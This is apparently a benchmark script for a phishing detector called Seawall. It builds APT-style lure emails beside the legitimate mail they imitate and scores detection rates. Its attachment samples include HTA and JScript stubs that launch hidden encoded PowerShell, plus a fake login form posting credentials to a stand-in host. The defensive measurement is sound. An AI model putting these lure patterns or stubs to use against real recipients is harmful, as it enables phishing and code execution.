"""Targeted lures against the legitimate mail they imitate (issue 16's separate slice).

    python bench/lures.py [--config examples/seawall.toml] [--show]

``bench/lures/lures.yml`` holds 41 lures written in the style of public reporting on APT33,
APT34, APT35 and MuddyWater, each beside the legitimate message it imitates (same brand or
institution, same kind of request, real domains). They are built into messages here and
scored by the shipped detector exactly as `seawall scan` would; they are for measuring and
never trained on. Prints, with no configuration and with the example organisation's profile:
lures caught (suspicious or phishing) and labelled phishing, look-alikes flagged, and the
ROC AUC of the score over the 82 messages.
"""

from __future__ import annotations

import argparse
import io
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path
from typing import Any

import yaml
from sklearn.metrics import roc_auc_score

from seawall.config import Settings, load_settings
from seawall.detect.detector import Detector
from seawall.intake.source import Origin, RawMessage
from seawall.mail.parse import parse_message

HERE = Path(__file__).resolve().parent
SENT = datetime(2019, 6, 20, 9, 30, tzinfo=UTC)

# Attachment contents by kind: what such a file starts with, enough for Seawall's sniffing.
_LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60
_HTA = b'<html><head><HTA:APPLICATION id="x"></head><script>new ActiveXObject("WScript.Shell").Run("powershell -w hidden -enc SQBFAFgA")</script></html>'
_JS = b'var s = WScript.CreateObject("WScript.Shell"); s.Run("powershell -w hidden -enc SQBFAFgA");'
_LOGIN = b'<html><body><p>Sign in to continue</p><form action="https://collect.example-bad.net/p" method="post"><input name="u"><input type="password" name="p"></form></body></html>'
_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def attachment_bytes(name: str, kind: str) -> tuple[bytes, str, str]:
    """(content, maintype, subtype) of an attachment of this kind."""
    if kind == "hta":
        return _HTA, "application", "hta"
    if kind == "lnk-zip":
        return _zip({name.rsplit(".", 1)[0] + ".pdf.lnk": _LNK}), "application", "zip"
    if kind == "iso":
        return b"\x00" * 0x8001 + b"CD001\x01" + b"\x00" * 2042, "application", "octet-stream"
    if kind == "html-login":
        return _LOGIN, "text", "html"
    if kind == "js":
        return _JS, "application", "javascript"
    if kind == "pdf":
        return _PDF, "application", "pdf"
    if kind == "docx":
        docx = _zip(
            {
                "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
                "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            }
        )
        return docx, "application", "vnd.openxmlformats-officedocument.wordprocessingml.document"
    raise ValueError(f"unknown attachment kind {kind!r}")


def build(spec: dict[str, Any], to: str) -> bytes:
    """One message from a lure or legit entry of lures.yml: text and HTML, link, attachment."""
    message = EmailMessage()
    message["From"] = spec["from"]
    message["To"] = to
    message["Subject"] = spec["subject"]
    message["Date"] = format_datetime(SENT)
    message["Message-ID"] = make_msgid(domain=spec["from"].rsplit("@", 1)[1].rstrip(">"))
    text: str = spec["text"]
    link = spec.get("link")
    if link:
        shown, href = link
        plain = text.replace("{link}", f"{shown} <{href}>")
        html_text = text.replace("{link}", f'<a href="{href}">{shown}</a>')
    else:
        plain = html_text = text
    message.set_content(plain)
    paragraphs = "".join(f"<p>{p.strip()}</p>" for p in html_text.split("\n\n") if p.strip())
    message.add_alternative(f"<html><body>{paragraphs}</body></html>", subtype="html")
    if spec.get("attachment"):
        name, kind = spec["attachment"]
        data, maintype, subtype = attachment_bytes(name, kind)
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes()


def pairs() -> list[dict[str, Any]]:
    return list(yaml.safe_load((HERE / "lures" / "lures.yml").read_text(encoding="utf-8"))["pairs"])


def score(settings: Settings, show: bool) -> dict[str, float]:
    detector = Detector(settings)
    rows = []
    for index, pair in enumerate(pairs()):
        for side, label in (("lure", 1), ("legit", 0)):
            raw = RawMessage.from_bytes(build(pair[side], pair["to"]), Origin(f"lures.yml#{index}:{side}"))
            verdict = detector.analyse(parse_message(raw, settings.limits)).verdict
            rows.append((pair["actor"], label, verdict))
            if show:
                rules = ", ".join(e.rule for e in verdict.evidence if e.points)
                print(
                    f"  {side:5s} {verdict.label:10s} {verdict.score:5.1f} {pair['style'][:60]:60s} [{rules}]"
                )
    lures = [v for _, label, v in rows if label]
    legit = [v for _, label, v in rows if not label]
    figures = {
        "lures": len(lures),
        "lures caught (suspicious or phishing)": sum(v.label != "clean" for v in lures) / len(lures),
        "lures labelled phishing": sum(v.label == "phishing" for v in lures) / len(lures),
        "look-alikes flagged (suspicious or phishing)": sum(v.label != "clean" for v in legit) / len(legit),
        "look-alikes labelled phishing": sum(v.label == "phishing" for v in legit) / len(legit),
        "ROC AUC of the score": float(
            roc_auc_score([label for _, label, _ in rows], [v.score for _, _, v in rows])
        ),
    }
    for actor in sorted({a for a, _, _ in rows}):
        mine = [v for a, label, v in rows if a == actor and label]
        figures[f"{actor}: lures caught"] = sum(v.label != "clean" for v in mine) / len(mine)
    return figures


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--config", default=str(HERE.parent / "examples" / "seawall.toml"))
    parser.add_argument("--show", action="store_true", help="print every message's verdict")
    args = parser.parse_args()
    for title, settings in (
        ("no configuration", Settings()),
        (args.config, load_settings(Path(args.config))),
    ):
        print(f"\n## {title}\n")
        for name, value in score(settings, args.show).items():
            print(f"| {name} | {value:.3f} |" if isinstance(value, float) else f"| {name} | {value} |")


if __name__ == "__main__":
    main()
